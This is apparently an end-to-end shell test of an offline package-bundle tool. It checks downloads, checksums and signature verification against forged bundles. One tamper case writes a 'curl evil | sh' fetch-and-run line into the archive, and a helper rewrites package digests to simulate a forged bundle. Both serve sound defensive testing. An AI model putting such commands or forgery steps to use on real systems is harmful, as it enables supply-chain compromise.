#!/bin/sh
# t051-bundle: `provision bundle` against a fake Debian repository served
# on 127.0.0.1 (built here with dpkg-deb and dpkg-scanpackages, served by
# bundle_httpd.py): apt resolves the dependencies, every file is fetched
# and checked, a download cut mid-file resumes with a Range request (in
# the same run and in the next one), a server that ignores Range is
# handled, a corrupt or wrongly sized file is refused and never packed,
# the archive's manifest matches its contents, apt reads the bundled
# repository, and --verify catches a tampered archive.  Bundles are signed
# (--sign, ed25519): --verify wants the key pinned (--key, the plan's
# offline.bundle_key) and refuses a package forged into a signed bundle
# with every digest rewritten, a signature swapped for another key's and
# one stripped; an unsigned bundle passes only with --insecure-unsigned.
#
#   sh tests/e2e/t051-bundle.sh
#
# Needs apt-get, dpkg-deb, dpkg-scanpackages (dpkg-dev), python3, zstd,
# openssl.

. "$(dirname "$0")/lib.sh"
set -u

for t in apt-get apt-cache dpkg-deb dpkg-scanpackages python3 zstd sha256sum openssl; do
	command -v "$t" >/dev/null 2>&1 || skip_all "$t is not installed"
done

W=$(mktemp -d /tmp/t051-bundle.XXXXXX) || exit 1
HTTPD_PID=
cleanup() {
	[ -n "$HTTPD_PID" ] && kill "$HTTPD_PID" 2>/dev/null
	rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
out=$W/out
err=$W/err

# The signing key (private: 0600), its public half, and a forger's key.
(umask 077 && openssl genpkey -algorithm ed25519 -out "$W/bundle.key" &&
	openssl genpkey -algorithm ed25519 -out "$W/evil.key") 2>/dev/null || exit 1
openssl pkey -in "$W/bundle.key" -pubout -out "$W/bundle.pub" 2>/dev/null || exit 1
FP=SHA256:$(openssl pkey -pubin -in "$W/bundle.pub" -outform DER | tail -c 32 |
	openssl dgst -sha256 -binary | base64 | tr -d '=')

# ------------------------------------------------------------ the repository

REPO=$W/repo
mkdir -p "$REPO" "$W/src"
mkdeb ca-certificates 20230311 "" 0 all
mkdeb curl 7.88.1-10+deb12u5 "libcurl4 (= 7.88.1-10+deb12u5)"
mkdeb libcurl4 7.88.1-10+deb12u5 "libc6 (>= 2.34)"
mkdeb chrony 4.3-2+deb12u1 "libc6 (>= 2.34) | libc6.1"
mkdeb libc6 2.36-9+deb12u4 ""
mkdeb munge 0.5.15-2 "libmunge2 (= 0.5.15-2)"
mkdeb libmunge2 0.5.15-2 ""
mkdeb slurm-common 1:22.05.8-4 "munge"
mkdeb slurmctld 1:22.05.8-4 "slurm-common (= 1:22.05.8-4)"
mkdeb slurmd 1:22.05.8-4 "slurm-common (= 1:22.05.8-4)" 3072
mkdeb slurm-client 1:22.05.8-4 "slurm-common"
mkdeb prometheus-node-exporter 1.5.0-1+b1 "libc6"
mkdeb unrelated 1.0 ""
(cd "$REPO" && dpkg-scanpackages -m . /dev/null >Packages 2>/dev/null)
SLURMD=slurmd_22.05.8-4_amd64.deb

start_httpd() {	# start_httpd [bundle_httpd.py options]
	[ -n "$HTTPD_PID" ] && kill "$HTTPD_PID" 2>/dev/null && wait "$HTTPD_PID" 2>/dev/null
	rm -f "$W/port" "$W/http.log"
	python3 "$TOP/tests/e2e/bundle_httpd.py" "$REPO" --port-file "$W/port" \
		--log "$W/http.log" "$@" &
	HTTPD_PID=$!
	PORT=$(wait_port "$W/port")
	SRC="deb [trusted=yes] http://127.0.0.1:$PORT/ ./"
}

cat >"$W/plan.yaml" <<EOF
version: 1
cluster: { name: offline, domain: offline.example }
networks: { m: { cidr: 192.0.2.0/24, kind: ethernet, gbps: 1 } }
nodes:
  - { name: head-01, role: head, address: 192.0.2.10 }
  - { name: "n[1-2]", role: worker, address: "192.0.2.[11-12]" }
software:
  os: { distro: debian, release: "12" }
  orchestrator: { kind: slurm }
  monitoring: { node_exporter: true }
EOF
P=$W/plan.yaml

bundle() {	# bundle OUT [options]: a signed bundle of $P from the test server
	o=$1
	shift
	"$PROVISION" bundle "$P" -o "$o" --cache "$W/cache" --source "$SRC" \
	    --sign "$W/bundle.key" "$@"
}
verify() {	# verify BUNDLE [options]: --verify against the signing key
	"$PROVISION" bundle --verify "$@" --key "$W/bundle.pub"
}

# ------------------------------------------------------------ manifest only

start_httpd
check "--manifest-only resolves the plan's packages" run "$PROVISION" bundle "$P" \
	--manifest-only --cache "$W/cache" --source "$SRC"
cp "$out" "$W/m.json"
manifest_has() {	# manifest_has FILE: the dependency closure, nothing else
	python3 - "$1" <<'EOF'
import json, sys, urllib.parse
m = json.load(open(sys.argv[1]))
names = sorted(a["name"] for a in m["artifacts"])
want = sorted(["ca-certificates", "chrony", "curl", "libc6", "libcurl4",
               "libmunge2", "munge", "prometheus-node-exporter",
               "slurm-client", "slurm-common", "slurmctld", "slurmd"])
assert names == want, names
for a in m["artifacts"]:
    assert len(a["sha256"]) == 64 and a["size"] > 0 and a["url"].startswith("http://127.0.0.1:"), a
    assert a["path"] == "repo/" + urllib.parse.unquote(a["url"].rsplit("/", 1)[1]), a
assert [a["version"] for a in m["artifacts"] if a["name"] == "slurmd"] == ["1:22.05.8-4"]
req = {r["name"]: r["step"] for r in m["requested"]}
assert req["munge"] == "slurm" and req["chrony"] == "base", req
EOF
}
check "  ... the whole dependency closure with versions, sizes and SHA-256" manifest_has "$W/m.json"
check "  ... fetches nothing" test ! -e "$W/cache/pool"

# ------------------------------------------------------------ a whole bundle

start_httpd --delay 0.4
check "bundle fetches and packs" run bundle "$W/b1.tar.zst" --jobs 4
check "  ... 12 packages fetched" grep -q "12 packages (12 fetched, 0 from the cache)" "$out"
check "  ... each once" sh -c "test \$(grep -c '^GET .*\\.deb - 200' '$W/http.log') -eq 12"
most_at_once() {
	sed -n 's/^inflight //p' "$W/http.log" | sort -n | tail -n 1
}
check "  ... in parallel: 4 at once with --jobs 4" test "$(most_at_once)" -eq 4
check "  ... signed: it says by which key" grep -q "^$W/b1.tar.zst: signed by key $FP\$" "$out"
check "--verify accepts it, signed by the key --key gives" run verify "$W/b1.tar.zst"
check "  ... and says so" grep -q ": ok, signed by key $FP (the pinned key)\$" "$out"
mkdir -p "$W/x1"
zstd -dc "$W/b1.tar.zst" | tar -xf - -C "$W/x1"
contents_match() {	# every member is in the manifest with its digest, and back
	python3 - "$W/x1" <<'EOF'
import hashlib, json, os, sys
root = sys.argv[1]
m = json.load(open(os.path.join(root, "manifest.json")))
listed = {e["path"]: e for e in m["artifacts"] + m["files"]}
found = set()
for d, _, files in os.walk(root):
    for f in files:
        rel = os.path.relpath(os.path.join(d, f), root)
        if rel not in ("manifest.json", "manifest.sig", "manifest.pub"):
            found.add(rel)
assert found == set(listed), (found ^ set(listed))
assert os.path.getsize(os.path.join(root, "manifest.sig")) == 64
for rel, e in listed.items():
    data = open(os.path.join(root, rel), "rb").read()
    assert len(data) == e["size"] and hashlib.sha256(data).hexdigest() == e["sha256"], rel
assert "repo/Packages" in listed and "repo/Release" in listed
EOF
}
check "  ... the manifest lists every member with its size and SHA-256" contents_match
check "  ... the same files the repository served" cmp "$W/x1/repo/$SLURMD" "$REPO/$SLURMD"
check "  ... its signature checks with openssl alone (docs/bundle.md)" sh -c \
	"openssl pkeyutl -verify -pubin -inkey '$W/bundle.pub' -rawin -in '$W/x1/manifest.json' -sigfile '$W/x1/manifest.sig' >/dev/null"
check "  ... rendered step scripts, one per node and step" sh -c \
	"test -f '$W/x1/scripts/head-01/base.sh' -a -f '$W/x1/scripts/n2/base.sh' || test ! -f '$TOP/templates/base.sh'"

# apt, as apply --bundle will use it: the bundle's repo/ on its own.
apt_reads_bundle() {
	a=$W/apt
	rm -rf "$a"
	mkdir -p "$a/state/lists/partial" "$a/cache/archives/partial" "$a/etc/parts"
	: >"$a/state/status"
	echo "deb [trusted=yes] file:$W/x1/repo ./" >"$a/etc/sources.list"
	cat >"$a/apt.conf" <<EOF
Dir "$a/";
Dir::State "state/";
Dir::State::status "state/status";
Dir::Cache "cache/";
Dir::Etc "etc/";
Dir::Etc::sourcelist "sources.list";
Dir::Etc::sourceparts "parts/";
Dir::Etc::parts "parts/";
Dir::Etc::preferencesparts "parts/";
APT::Architecture "amd64";
APT::Sandbox::User "root";
Debug::NoLocking "true";
EOF
	APT_CONFIG=$a/apt.conf apt-get update -q >/dev/null 2>&1 || return 1
	APT_CONFIG=$a/apt.conf apt-get install --print-uris -qq slurmd slurmctld \
		munge chrony curl prometheus-node-exporter >"$a/uris" || return 1
	[ "$(grep -c "^'file:$W/x1/repo/" "$a/uris")" -eq 10 ]
}
check "apt installs from the bundled repository alone (deb [trusted=yes] file:...)" apt_reads_bundle

check "a second run takes everything from the cache" run bundle "$W/b2.tar.zst"
check "  ... 12 from the cache" grep -q "(0 fetched, 12 from the cache)" "$out"

# ------------------------------------------------------------ cut downloads

rm -rf "$W/cache"
start_httpd --cut "$SLURMD:400000:1"
check "a download cut mid-file is resumed in the same run" run bundle "$W/b3.tar.zst"
check "  ... it said so" grep -q "^resuming slurmd" "$out"
check "  ... with a Range request from where it broke" \
	grep -q "^GET /$SLURMD bytes=400000- 206\$" "$W/http.log"
check "  ... and the bundle verifies" run verify "$W/b3.tar.zst"

rm -rf "$W/cache"
start_httpd --cut "$SLURMD:700000:1"
expect_code 1 "with --retries 0 the cut download fails the run" run bundle "$W/b4.tar.zst" --retries 0
check "  ... naming the file" grep -q "'$SLURMD': transfer closed" "$err"
check "  ... and no archive is left" sh -c "! ls '$W'/b4.tar.zst* >/dev/null 2>&1"
check "  ... the part stays in cache/partial" test "$(wc -c <"$W/cache/partial/$SLURMD")" -eq 700000
check "  ... and not in the pool" test ! -e "$W/cache/pool/$SLURMD"
check "the next run resumes it" run bundle "$W/b4.tar.zst"
check "  ... from byte 700000" grep -q "^GET /$SLURMD bytes=700000- 206\$" "$W/http.log"
check "  ... fetching only that file" grep -q "(1 fetched, 11 from the cache)" "$out"
check "  ... and it is whole" cmp "$W/cache/pool/$SLURMD" "$REPO/$SLURMD"

rm -rf "$W/cache"
start_httpd --cut "$SLURMD:500000:1" --no-range
check "a server that ignores Range: the file is fetched whole again" run bundle "$W/b5.tar.zst"
check "  ... from byte 0" sh -c "test \$(grep -c '^GET /$SLURMD - 200\$' '$W/http.log') -eq 2"
check "  ... and the bundle verifies" run verify "$W/b5.tar.zst"

# ------------------------------------------------------------ bad files

cp "$REPO/munge_0.5.15-2_amd64.deb" "$W/munge.good"
python3 -c 'import sys; p=sys.argv[1]; b=bytearray(open(p,"rb").read()); b[-200] ^= 0xff; open(p,"wb").write(b)' \
	"$REPO/munge_0.5.15-2_amd64.deb"
rm -rf "$W/cache"
start_httpd
expect_code 1 "a file whose SHA-256 differs from the index is refused" run bundle "$W/b6.tar.zst"
check "  ... with a clear error" grep -q "'munge_0.5.15-2_amd64.deb': checksum mismatch: SHA-256 [0-9a-f]*, the index says [0-9a-f]*: deleted, not packed" "$err"
check "  ... no archive" sh -c "! ls '$W'/b6.tar.zst* >/dev/null 2>&1"
check "  ... not in the cache, not even partly" sh -c \
	"test ! -e '$W/cache/pool/munge_0.5.15-2_amd64.deb' && test ! -e '$W/cache/partial/munge_0.5.15-2_amd64.deb'"
printf 'x' >>"$REPO/munge_0.5.15-2_amd64.deb"
expect_code 1 "a file longer than the index says is refused" run bundle "$W/b7.tar.zst"
check "  ... with a clear error" grep -q "'munge_0.5.15-2_amd64.deb': larger than the [0-9]* bytes the index says" "$err"
cp "$W/munge.good" "$REPO/munge_0.5.15-2_amd64.deb"

# A corrupt file in the cache is not trusted either.
check "a clean run" run bundle "$W/b8.tar.zst"
printf 'garbage' | dd of="$W/cache/pool/libc6_2.36-9+deb12u4_amd64.deb" bs=1 seek=100 conv=notrunc 2>/dev/null
check "a corrupt file in the cache is fetched again" run bundle "$W/b9.tar.zst"
check "  ... exactly that one" grep -q "(1 fetched, 11 from the cache)" "$out"

mv "$REPO/libc6_2.36-9+deb12u4_amd64.deb" "$W/libc6.deb"
rm -f "$W/cache/pool/libc6_2.36-9+deb12u4_amd64.deb"
expect_code 1 "a file the server does not have (404) fails the run" run bundle "$W/b10.tar.zst"
check "  ... naming it" grep -q "'libc6_2.36-9+deb12u4_amd64.deb': .*404" "$err"
mv "$W/libc6.deb" "$REPO/libc6_2.36-9+deb12u4_amd64.deb"

# ------------------------------------------------------------ packages

expect_code 1 "a package in no index is an error" run bundle "$W/b11.tar.zst" --package no-such-package
check "  ... that names it and says what to do" grep -q "1 package in no index: no-such-package (add their repository with --source" "$err"
check "--allow-missing bundles the rest" run bundle "$W/b12.tar.zst" --package no-such-package --allow-missing
check "  ... and the manifest lists what is missing" sh -c \
	"zstd -dc '$W/b12.tar.zst' | tar -xOf - manifest.json | python3 -c 'import json,sys; assert json.load(sys.stdin)[\"missing\"] == [\"no-such-package\"]'"
check "--package adds a package" run bundle "$W/b13.tar.zst" --package unrelated
check "  ... which is packed" sh -c "zstd -dc '$W/b13.tar.zst' | tar -tf - | grep -qx repo/unrelated_1.0_amd64.deb"

# ------------------------------------------------------------ --verify

# forge: the package swapped for another, every digest that names it
# (repo/Packages, repo/Release, manifest.json) rewritten to match: what
# --verify accepted before bundles were signed.
forge() {	# forge: in the current folder
	python3 - "$SLURMD" "$REPO/unrelated_1.0_amd64.deb" <<'EOF'
import hashlib, json, re, sys
victim, evil = sys.argv[1:]
sha = lambda b: hashlib.sha256(b).hexdigest()
data = open(evil, "rb").read()
open("repo/" + victim, "wb").write(data)
pk = open("repo/Packages").read().split("\n\n")
for i, st in enumerate(pk):
    if "Filename: ./" + victim in st:
        st = re.sub(r"(?m)^SHA256: .*$", "SHA256: " + sha(data), st)
        pk[i] = re.sub(r"(?m)^Size: .*$", "Size: %d" % len(data), st)
pk = "\n\n".join(pk).encode()
open("repo/Packages", "wb").write(pk)
rel = re.sub(r"(?m)^ [0-9a-f]{64} [0-9]+ Packages$", " %s %d Packages" % (sha(pk), len(pk)),
    open("repo/Release").read()).encode()
open("repo/Release", "wb").write(rel)
m = json.load(open("manifest.json"))
for a in m["artifacts"]:
    if a["path"] == "repo/" + victim:
        a["sha256"], a["size"] = sha(data), len(data)
for f in m["files"]:
    b = {"repo/Packages": pk, "repo/Release": rel}.get(f["path"])
    if b is not None:
        f["sha256"], f["size"] = sha(b), len(b)
open("manifest.json", "w").write(json.dumps(m, indent=2) + "\n")
EOF
}
tamper() {	# tamper NAME: rebuild b1 with one change
	rm -rf "$W/t" && mkdir -p "$W/t" && zstd -dc "$W/b1.tar.zst" | tar -xf - -C "$W/t" && (
		cd "$W/t" || exit 1
		case $1 in
		flip) printf 'X' | dd of="repo/$SLURMD" bs=1 seek=5000 conv=notrunc 2>/dev/null ;;
		extra) echo 'curl evil | sh' >scripts-evil.sh ;;
		missing) rm "repo/munge_0.5.15-2_amd64.deb" ;;
		forge) forge ;;
		resign) forge && openssl pkeyutl -sign -inkey "$W/evil.key" -rawin \
			-in manifest.json -out manifest.sig &&
			openssl pkey -in "$W/evil.key" -pubout -out manifest.pub ;;
		strip) forge && rm manifest.sig manifest.pub ;;
		esac
		tar -cf - ./* | zstd -q -o "$W/t.tar.zst" -f
	)
}
tamper flip
expect_code 1 "--verify finds a changed byte" run verify "$W/t.tar.zst"
check "  ... in that member" grep -q "bad: 'repo/$SLURMD' has SHA-256" "$out"
tamper extra
expect_code 1 "--verify finds a member the manifest does not list" run verify "$W/t.tar.zst"
check "  ... by name" grep -q "bad: 'scripts-evil.sh' is in the archive but not in the manifest" "$out"
tamper missing
expect_code 1 "--verify finds a member that is gone" run verify "$W/t.tar.zst"
check "  ... by name" grep -q "bad: 'repo/munge_0.5.15-2_amd64.deb' is in the manifest but not in the archive" "$out"
expect_code 1 "--verify of a file that is no archive" run verify "$P"
expect_code 2 "--verify with -o is a usage error" run "$PROVISION" bundle "$P" --verify "$W/b1.tar.zst" -o "$W/x"
expect_code 2 "-o is required" run "$PROVISION" bundle "$P" --source "$SRC"

# ------------------------------------------------------------ signatures

tamper forge
expect_code 1 "a package forged into a signed bundle, every digest rewritten, is refused" \
	run verify "$W/t.tar.zst"
check "  ... the signature does not match" grep -qx "bad: the signature of key $FP does not match manifest.json: the bundle was changed after it was signed" "$out"
check "  ... and nothing else is wrong with it" test "$(grep -c '^bad: ' "$out")" -eq 1
tamper resign
expect_code 1 "  ... re-signed by another key: refused" run verify "$W/t.tar.zst"
check "  ... naming both keys" grep -q "^bad: signed by key SHA256:[A-Za-z0-9+/]*, not by the pinned key $FP\$" "$out"
tamper strip
expect_code 1 "  ... its signature stripped: refused" run verify "$W/t.tar.zst"
check "  ... as not signed" grep -q "^bad: the bundle is not signed, and key $FP is pinned" "$out"
expect_code 1 "  ... not even with --insecure-unsigned when a key is pinned" run verify "$W/t.tar.zst" --insecure-unsigned

sed "s|^software:|offline: { bundle_key: $W/bundle.pub }\nsoftware:|" "$P" >"$W/pinned.yaml"
check "--verify takes the key the plan pins" run "$PROVISION" bundle --verify "$W/b1.tar.zst" "$W/pinned.yaml"
check "  ... and says so" grep -q ": ok, signed by key $FP (the pinned key)\$" "$out"
expect_code 1 "--verify with no key to check against refuses a signed bundle" run "$PROVISION" bundle --verify "$W/b1.tar.zst"
check "  ... and says what to do" grep -q "^bad: signed by key $FP, but no key is pinned to check it against (pin it in the plan" "$out"
check "  ... --insecure-unsigned takes it, saying so" run "$PROVISION" bundle --verify "$W/b1.tar.zst" --insecure-unsigned
check "  ... in those words" grep -q ": ok, signed by key $FP, which no pinned key vouches for: accepted because --insecure-unsigned\$" "$out"

"$PROVISION" bundle "$P" -o "$W/u.tar.zst" --cache "$W/cache" --source "$SRC" >"$out" 2>"$err"
check "an unsigned bundle is made, with a warning" grep -q "warning: $W/u.tar.zst is not signed: apply --bundle refuses it" "$err"
expect_code 1 "  ... --verify refuses it" run "$PROVISION" bundle --verify "$W/u.tar.zst"
check "  ... saying how to sign, pin or accept it" grep -q "^bad: the bundle is not signed: .*--sign KEY.*bundle_key.*--insecure-unsigned)\$" "$out"
check "  ... --insecure-unsigned accepts it" run "$PROVISION" bundle --verify "$W/u.tar.zst" --insecure-unsigned
check "  ... in those words" grep -q ": ok, accepted unsigned because --insecure-unsigned\$" "$out"

chmod 644 "$W/bundle.key"
expect_code 2 "--sign refuses a private key others can read" run bundle "$W/x.tar.zst"
check "  ... like ssh, saying how to fix it" grep -q "can be read by other users (mode 0644): a signing key must be private (chmod 600 " "$err"
chmod 600 "$W/bundle.key"
expect_code 2 "--sign refuses a key the plan does not pin" run "$PROVISION" bundle "$W/pinned.yaml" \
	-o "$W/x.tar.zst" --cache "$W/cache" --source "$SRC" --sign "$W/evil.key"
check "  ... before fetching anything" test ! -e "$W/x.tar.zst"

# ------------------------------------------------------------ usage

cat >"$W/rocky.yaml" <<EOF
version: 1
cluster: { name: r }
nodes: [ { name: a, address: 192.0.2.1 } ]
networks: { m: { cidr: 192.0.2.0/24, kind: ethernet, gbps: 1 } }
software: { os: { distro: rocky, release: "9" } }
EOF
expect_code 1 "a Rocky plan has no .deb bundle" run "$PROVISION" bundle "$W/rocky.yaml" -o "$W/r.tar.zst"
check "  ... and says so" grep -q "not Debian or Ubuntu" "$err"
kill "$HTTPD_PID"
wait "$HTTPD_PID" 2>/dev/null
HTTPD_PID=
expect_code 1 "an unreachable repository is a clear error" run bundle "$W/b14.tar.zst"
check "  ... from apt" grep -q "cannot read the package indexes" "$err"

done_testing
